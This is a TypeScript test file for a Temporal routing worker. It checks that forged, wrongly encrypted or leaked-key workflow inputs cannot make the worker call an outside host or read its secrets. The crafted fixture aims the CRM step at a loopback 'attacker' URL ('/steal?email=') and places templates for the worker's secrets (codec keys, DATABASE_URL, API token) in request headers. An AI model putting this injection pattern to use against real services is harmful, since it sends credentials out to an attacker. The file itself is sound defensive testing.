import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { Client, Connection, WorkflowFailedError } from '@temporalio/client';
import { ApplicationFailure } from '@temporalio/common';
import { AesGcmCodec, parseCodecKeys } from '../../src/security/codec';
import { dataConverter } from '../../src/service/compose';
import { messageReceivedSignal, ROUTING_WORKFLOW, workflowIdForContact } from '../../src/workflows/definitions';
import { INVALID_INPUT } from '../../src/workflows/input';
import { Harness, testRouting } from '../support/harness';

/** The secrets a crafted input names; the worker's environment holds them all. */
const SECRETS = ['VIP_ROUTER_CODEC_KEYS', 'DATABASE_URL', 'RESPONDIO_API_TOKEN'] as const;

/**
 * Whoever can start or signal a workflow on the namespace (Temporal UI, the CLI, a leaked client certificate or
 * codec key) cannot make the worker call their host or send its secrets: a run straight through Temporal, with a
 * crafted input pointing the CRM step at a second loopback server (the attacker) and naming the worker's secrets.
 */
describe("a workflow's input does not steer the worker", () => {
  const attackerSaw: Array<{ url?: string; headers: IncomingHttpHeaders }> = [];
  const attacker = createServer((req, res) => {
    attackerSaw.push({ url: req.url, headers: req.headers });
    res.writeHead(200, { 'content-type': 'application/json' }).end('{"customerType":"VIP"}');
  });
  /** Every variable the worker's CRM step looked up, in order. */
  const envReads: string[] = [];
  let h: Harness;
  let connection: Connection;
  let attackerUrl: string;

  before(async () => {
    await new Promise<void>((ready) => attacker.listen(0, '127.0.0.1', ready));
    attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    const values: Record<string, string> = { CRM_TOKEN: 'the-crm-token', RESPONDIO_API_TOKEN: 'respondio-token-of-the-worker' };
    const env = new Proxy(values as NodeJS.ProcessEnv, {
      get: (target, name) => (envReads.push(String(name)), target[name as string]),
    });
    h = await Harness.start({ crmEnvNames: ['CRM_TOKEN'], env });
    // Filled in once known: the worker's environment holds every secret the attacker names.
    Object.assign(values, { VIP_ROUTER_CODEC_KEYS: h.codecKeys, DATABASE_URL: h.databaseUrl });
    await h.putAgent('agent-vip', { team: 'vip' });
    await h.putAgent('agent-support', { team: 'support' });
    connection = await Connection.connect({ address: h.servers.temporalAddress });
  });
  after(async () => {
    await connection?.close();
    await h?.close();
    await new Promise<void>((done) => attacker.close(() => done()));
  });

  const craftedInput = (contactId: string, extra: object = {}) => ({
    contact: { id: contactId, email: `${contactId}@example.com` },
    config: testRouting({
      crm: {
        url: `${attackerUrl}/steal?email={{email}}`,
        headers: Object.fromEntries(SECRETS.map((name) => [`x-${name.toLowerCase()}`, `\${env:${name}}`])),
      },
    }),
    ...extra,
  });
  const start = (client: Client, contactId: string, input: object) =>
    client.workflow.start(ROUTING_WORKFLOW, { workflowId: workflowIdForContact(contactId), taskQueue: h.taskQueue, args: [input] });

  /** The run failed at once as invalid input, and its history holds no activity: nothing ran. */
  const assertRefusedAtOnce = async (contactId: string, reason: RegExp) => {
    const handle = h.client.workflow.getHandle(workflowIdForContact(contactId));
    await assert.rejects(handle.result(), (error: unknown) => {
      assert.ok(error instanceof WorkflowFailedError);
      assert.ok(error.cause instanceof ApplicationFailure);
      assert.equal(error.cause.type, INVALID_INPUT);
      assert.equal(error.cause.nonRetryable, true);
      assert.match(error.cause.message, reason);
      return true;
    });
    const events = (await handle.fetchHistory()).events ?? [];
    assert.ok(!events.some((e) => e.activityTaskScheduledEventAttributes), 'no activity was scheduled');
    const markers = events.filter((e) => e.markerRecordedEventAttributes).map((e) => e.markerRecordedEventAttributes!.markerName);
    assert.ok(markers.every((name) => name === 'core_patch'), `no local activity ran (markers: ${markers.join(', ')})`);
    assert.equal(events.filter((e) => e.workflowTaskFailedEventAttributes).length, 0, 'no workflow task failed');
  };

  const assertNothingLeft = () => {
    assert.deepEqual(attackerSaw, [], 'the attacker received no request');
    for (const secret of SECRETS) assert.ok(!envReads.includes(secret), `${secret} was never read (reads: ${envReads.join(', ')})`);
  };

  it('a plaintext start fails at once: no request, no secret read', async () => {
    const id = h.contactId('plain-start');
    await start(new Client({ connection }), id, craftedInput(id));
    await assertRefusedAtOnce(id, /input was refused: a payload that is not encrypted/);
    assertNothingLeft();
  });

  it('a start encrypted with a wrong key (under the real key id) fails at once: no request, no secret read', async () => {
    const id = h.contactId('wrong-key');
    const keyId = parseCodecKeys(h.codecKeys)[0]!.id;
    const forged = new Client({ connection, dataConverter: dataConverter(new AesGcmCodec([{ id: keyId, key: randomBytes(32) }])) });
    await start(forged, id, craftedInput(id));
    await assertRefusedAtOnce(id, /input was refused: .*failed authentication/);
    assertNothingLeft();
  });

  it("with the right key (a leaked one), the CRM step still calls only the worker's own CRM and reads no secret", async () => {
    await h.putCustomer('leaked@example.com', { customerType: 'VIP' });
    // Without a rules version: refused as an input the API never makes.
    const unversioned = h.contactId('leaked-unversioned');
    await start(h.client, unversioned, craftedInput(unversioned));
    await assertRefusedAtOnce(unversioned, /rulesVersion/);

    // With a rules version nobody recorded: the CRM step refuses it, and the run goes on as if the CRM were down.
    const invented = h.contactId('leaked-invented');
    await start(h.client, invented, craftedInput(invented, { rulesVersion: 'a'.repeat(64) }));
    const inventedStatus = await h.waitForState(invented, 'assigned');
    assert.equal(inventedStatus.assignee?.agentId, 'agent-support');
    assert.match(JSON.stringify(inventedStatus.decisions), /rules version aaaaaaaaaaaa is not recorded/);

    // With the version of the service's own rules: those rules' CRM (the built-in directory), not the input's.
    const versioned = h.contactId('leaked-versioned');
    const { rows } = await h.db.query(`SELECT version FROM routing_rule_versions`);
    assert.equal(rows.length, 1, 'the API and the worker recorded the same rules, once');
    await start(h.client, versioned, { ...craftedInput(versioned), contact: { id: versioned, email: 'leaked@example.com' }, rulesVersion: rows[0].version });
    const versionedStatus = await h.waitForState(versioned, 'assigned');
    assert.equal(versionedStatus.customerType, 'VIP', 'the directory answered');
    assert.equal(versionedStatus.assignee?.agentId, 'agent-vip');
    assertNothingLeft();
  });

  it('a plaintext signal to a legitimate run is ignored and noted; the run goes on', async () => {
    const id = h.contactId('plain-signal');
    await h.open({ id });
    await h.waitForState(id, 'asking_email');
    const plain = new Client({ connection });
    await plain.workflow.getHandle(workflowIdForContact(id)).signal(messageReceivedSignal, { messageId: 'forged', text: 'leaked@example.com' });
    const noted = await h.waitFor(id, (s) => s.path.includes('signal_refused'));
    assert.equal(noted.state, 'asking_email', 'the forged email was not taken');
    assert.match(JSON.stringify(noted.decisions), /messageReceived: a payload that is not encrypted/);

    await h.say(id, 'm-1', `${id}@example.com`);
    const routed = await h.waitForState(id, 'assigned');
    assert.equal(routed.assignee?.agentId, 'agent-support');
    const events = (await h.client.workflow.getHandle(workflowIdForContact(id)).fetchHistory()).events ?? [];
    assert.equal(events.filter((e) => e.workflowTaskFailedEventAttributes).length, 0, 'no workflow task failed');
  });

  it('a start with no input fails at once', async () => {
    const id = h.contactId('no-input');
    await h.client.workflow.start(ROUTING_WORKFLOW, { workflowId: workflowIdForContact(id), taskQueue: h.taskQueue, args: [] });
    await assertRefusedAtOnce(id, /input is not an object/);
  });

  it('an input the API would not make fails at once, naming the field', async () => {
    const id = h.contactId('bad-input');
    const version = (await h.db.query(`SELECT version FROM routing_rule_versions`)).rows[0].version as string;
    await start(h.client, id, { contact: { id, email: 'not an email' }, config: h.routing, rulesVersion: version });
    await assertRefusedAtOnce(id, /contact\.email: not a valid email address/);
  });
});
